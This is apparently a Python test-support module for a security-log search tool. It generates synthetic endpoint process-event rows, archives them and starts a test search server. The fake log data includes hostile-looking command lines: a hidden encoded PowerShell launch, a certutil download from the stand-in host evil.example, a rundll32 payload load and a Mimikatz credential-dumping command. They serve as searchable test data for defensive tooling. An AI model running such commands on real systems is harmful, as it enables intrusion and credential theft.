"""Search test support: deterministic archived rows written in the archive layout, a live-server runner."""

from __future__ import annotations

import contextlib
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa

from huntvault.schema import EXTRA_COLUMN, get_table
from tests.support.browser import Server, serve

TENANT = "5e2b9c3a-1111-4c4c-9b9b-0123456789ab"
BASE_TIME = datetime(2026, 7, 20, 8, 0, 0, tzinfo=UTC)

HOSTS = ["pf3tern-ws01", "wkstn-hr-02", "srv-dc01", "laptop-eng-17", "build-agent-4", "kiosk-lobby"]
USERS = ["jdoe", "asmith", "svc_backup", "administrator", "mlopez", "rkumar"]
FILES = [
    "powershell.exe",
    "cmd.exe",
    "rundll32.exe",
    "svchost.exe",
    "winword.exe",
    "certutil.exe",
    "python3.12",
]
ACTIONS = ["ProcessCreated", "ProcessCreated", "ProcessCreated", "OpenProcess"]
COMMANDS = [
    "powershell.exe -nop -w hidden -enc SQBFAFgA",
    "cmd.exe /c whoami /all",
    "rundll32.exe C:\\Users\\Public\\payload.dll,Start",
    "certutil.exe -urlcache -split -f http://evil.example/a.txt",
    "winword.exe /n C:\\Users\\jdoe\\Documents\\Quarterly Report.docx",
    "python3.12 -m detection_rules",
    "svchost.exe -k netsvcs -p",
]
FOLDERS = ["C:\\Windows\\System32", "C:\\Program Files\\Microsoft Office\\root\\Office16", "/usr/bin"]


def _pick(rng: np.random.Generator, pool: list[str], n: int) -> pa.Array:
    return pa.array(pool).take(pa.array(rng.integers(0, len(pool), n)))


def generate_table(
    table_name: str, n: int, seed: int = 7, start: datetime = BASE_TIME, spacing_s: float = 37.0
) -> pa.Table:
    """`n` emulator-like rows of `table_name` typed exactly like the archive (columns + envelope)."""
    table = get_table(table_name)
    assert table is not None, table_name
    rng = np.random.default_rng(seed)
    start_us = int(start.timestamp() * 1_000_000)
    ts_us = (
        start_us + (np.arange(n, dtype=np.int64) * int(spacing_s * 1_000_000)) + rng.integers(0, 999_999, n)
    )
    ts = pa.array(ts_us, pa.timestamp("us", tz="UTC"))
    cols: dict[str, pa.Array] = {}
    for col in table.columns:
        name = col.name
        if col.type == "datetime":
            cols[name] = (
                ts
                if name in ("Timestamp", "EventTime")
                else pa.array(ts_us - 5_000_000, pa.timestamp("us", tz="UTC"))
            )
        elif col.type in ("long", "int", "timespan"):
            if name == "ReportId":
                arr = np.arange(n, dtype=np.int64) + 1000
            elif name == "FileSize" or name.endswith("FileSize"):
                arr = rng.integers(1_000, 50_000_000, n)
            else:
                arr = rng.integers(0, 70_000, n)
            cols[name] = pa.array(arr, col.arrow_type)
        elif col.type in ("real", "decimal"):
            cols[name] = pa.array(rng.random(n) * 100, pa.float64())
        elif col.type == "bool":
            cols[name] = pa.array(rng.random(n) < 0.2)
        elif col.type == "dynamic":
            cols[name] = _pick(rng, ['{"ProcessPosixSessionId":66743}', "{}", '{"IsLocalLogon":true}'], n)
        elif name == "DeviceName" or name.endswith("DeviceName"):
            cols[name] = _pick(rng, HOSTS, n)
        elif name == "DeviceId":
            cols[name] = _pick(rng, [f"{i:040x}" for i in range(1, len(HOSTS) + 1)], n)
        elif name.endswith("AccountName"):
            cols[name] = _pick(rng, USERS, n)
        elif name.endswith("AccountDomain"):
            cols[name] = _pick(rng, ["CONTOSO", "NT AUTHORITY", "pf3tern"], n)
        elif name == "ActionType":
            cols[name] = _pick(rng, ACTIONS, n)
        elif name.endswith("FileName"):
            cols[name] = _pick(rng, FILES, n)
        elif name.endswith("CommandLine"):
            cols[name] = _pick(rng, COMMANDS, n)
        elif name.endswith("FolderPath"):
            cols[name] = _pick(rng, FOLDERS, n)
        elif name in ("SHA1", "SHA256", "MD5") or name.endswith(("SHA1", "SHA256", "MD5")):
            width = {"SHA1": 40, "SHA256": 64, "MD5": 32}[
                next(s for s in ("SHA256", "SHA1", "MD5") if name.endswith(s))
            ]
            cols[name] = _pick(rng, [f"{i * 7919:0{width}x}" for i in range(1, 200)], n)
        elif name == "MachineGroup":
            cols[name] = _pick(rng, ["UnassignedGroup", "Servers", "Workstations"], n)
        elif name.endswith("IntegrityLevel"):
            cols[name] = _pick(rng, ["High", "Medium", "System"], n)
        else:
            cols[name] = pa.array([""] * n, pa.string())
    cols["_ExportTime"] = pa.array(ts_us + 120_000_000, pa.timestamp("us", tz="UTC"))
    cols["_TimeReceivedBySvc"] = pa.array(ts_us + 60_000_000, pa.timestamp("us", tz="UTC"))
    cols["_TenantId"] = pa.array([TENANT] * n, pa.string())
    cols[EXTRA_COLUMN] = _pick(rng, ["{}", "{}", "{}", '{"Tenant":"DefaultTenant"}'], n)
    schema = table.arrow_schema()
    return pa.table([cols[f.name].cast(f.type) for f in schema], schema=schema)


def write_archive(root: Path | str, table_name: str, data: pa.Table) -> list[str]:
    """Commit `data` to the Delta Lake archive at `root` (a folder or an az:// URL) through the archive's own
    writer (one part per day, deduplicated); returns the stable ids of the parts written."""
    from huntvault.archive import Archive, Batch

    batch = Batch()
    batch.add(table_name, data)
    with Archive(root) as archive:
        return list(archive.commit(batch).parts)


def rows_as_dicts(data: pa.Table) -> list[dict[str, Any]]:
    return data.to_pylist()


#: `huntvault serve` in a subprocess, as the browser tests start it
LiveServer = Server


@contextlib.contextmanager
def live_server(archive: Path, index_dir: Path, admin_key: str, query_key: str) -> Iterator[LiveServer]:
    """Run `huntvault serve` (uvicorn on 127.0.0.1) in a subprocess until the block ends."""
    cfg = index_dir.parent / "huntvault-search-test.toml"
    cfg.write_text(f'[index]\npath = "{index_dir.as_posix()}"\npoll_seconds = 0.5\n', encoding="utf-8")
    env = {"HUNTVAULT_ADMIN_KEY": admin_key, "HUNTVAULT_QUERY_KEY": query_key}
    with serve(
        cfg, archive, env, index_dir.parent / "huntvault-serve.log", ready_key=admin_key, timeout=60
    ) as srv:
        yield srv


def timestamps(data: pa.Table, column: str = "Timestamp") -> list[datetime]:
    return [t for t in data.column(column).to_pylist()]


def shift(t: datetime, **kw: float) -> datetime:
    return t + timedelta(**kw)


#: Hand-made rows placed first in the crafted table; the rest are generated. Words here appear nowhere else.
CRAFTED: list[dict[str, Any]] = [
    {
        "ProcessCommandLine": "Invoke-Mimikatz sekurlsa::logonpasswords",
        "DeviceName": "alpha-host",
        "FileName": "mimikatz.exe",
        "AccountName": "O'Brien",
        "FileSize": 5,
    },
    {"ProcessCommandLine": "wifi luxury hotel airport", "DeviceName": "beta-host", "FileSize": 6},
    {"ProcessCommandLine": "hotel near the airport with wifi", "DeviceName": "beta-host"},
    {"ProcessCommandLine": "luxury resort booking", "DeviceName": "gamma-host"},
    {"ProcessCommandLine": "C:\\Windows\\System32\\motel /quiet", "FileName": "motel.exe"},
    {"ProcessCommandLine": "helloworld numerical analysis", "FileName": "nonfunctional.exe"},
    {"ProcessCommandLine": "3352CDD0-EF30-4A2E-A2B9-1F8E9A3C1B77 guidrun"},
    {"ProcessCommandLine": "nullsize sample", "FileSize": None, "ProcessId": None},
]


def crafted_table(n: int = 300, seed: int = 11) -> pa.Table:
    """`n` DeviceProcessEvents rows: CRAFTED first, then generated ones (all in a few days of July 2026)."""
    base = generate_table("DeviceProcessEvents", n, seed=seed, spacing_s=900.0)
    rows = base.to_pylist()
    for row, override in zip(rows, CRAFTED, strict=False):
        row.update(override)
    return pa.Table.from_pylist(rows, schema=base.schema)


def report_ids(response: dict[str, Any]) -> set[int]:
    return {hit["properties"]["ReportId"] for hit in response["value"]}


def truth(data: pa.Table, predicate: Any) -> set[int]:
    """ReportIds of the rows for which predicate(row) is true (the ground truth of a query)."""
    return {row["ReportId"] for row in data.to_pylist() if predicate(row)}


ADMIN_KEY = "admin-key-for-tests-0001"
QUERY_KEY = "query-key-for-tests-0001"
INDEX = "insights-logs-advancedhunting-deviceprocessevents"


@dataclass
class SearchEnv:
    """An in-process search API over a crafted archive (FastAPI through httpx's transport)."""

    client: Any
    data: pa.Table
    archive: Path
    index_dir: Path

    def get(self, path: str, key: str = ADMIN_KEY, **params: Any) -> Any:
        return self.client.get(path, params=params, headers={"api-key": key} if key else {})

    def search(self, **params: Any) -> dict[str, Any]:
        params.setdefault("api-version", "2024-07-01")
        resp = self.get(f"/indexes/{INDEX}/docs", **params)
        assert resp.status_code == 200, resp.text
        return dict(resp.json())

    def post(self, body: dict[str, Any], key: str = ADMIN_KEY, sdk_form: bool = True) -> Any:
        path = f"/indexes('{INDEX}')/docs/search.post.search" if sdk_form else f"/indexes/{INDEX}/docs/search"
        return self.client.post(
            path, json=body, params={"api-version": "2026-04-01"}, headers={"api-key": key}
        )


def make_env(root: Path, data: pa.Table | None = None) -> SearchEnv:
    from fastapi.testclient import TestClient

    from huntvault.config import Config
    from huntvault.web.app import create_app

    data = crafted_table() if data is None else data
    archive = root / "archive"
    write_archive(archive, "DeviceProcessEvents", data)
    cfg = Config()
    cfg.index.path = str(root / "index")
    cfg.server.admin_key = ADMIN_KEY
    cfg.server.query_key = QUERY_KEY
    app = create_app(cfg, archive_dir=archive)
    return SearchEnv(TestClient(app), data, archive, root / "index")
